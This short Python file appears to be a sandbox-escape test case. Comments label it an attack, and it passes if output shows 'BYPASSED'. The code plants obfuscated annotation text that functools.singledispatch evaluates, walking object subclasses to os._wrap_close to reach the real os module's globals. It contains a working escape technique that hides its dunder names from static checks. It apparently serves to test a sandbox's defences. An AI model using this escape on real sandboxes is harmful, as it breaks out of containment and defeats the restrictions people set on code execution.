# attack: alias a function's __annotations__ dict (only direct writes are refused), put text built
#   at run time in it, and let functools.singledispatch evaluate it: attribute access inside that
#   text is never validated, so it walks to os._wrap_close and the os module's globals
# escaped-if: stdout has "BYPASSED:" (the real os module's functions were reached)
import functools

captured = []


def fallback(value):
    return "default"


def handler(value):
    return "typed"


hints = handler.__annotations__
hints["value"] = (
    "[captured.append([c for c in ().__class__.__baZe__.__ZubclaZZeZ__() if c.__name__ == '_wrap_cloZe'][0]"
    ".__init__.__globalZ__), int][1]"
).replace("Z", "s")
functools.singledispatch(fallback).register(handler)
real_os = captured[0]
print("BYPASSED: singledispatch evaluated planted annotation text; os.getuid() =", real_os["getuid"]())
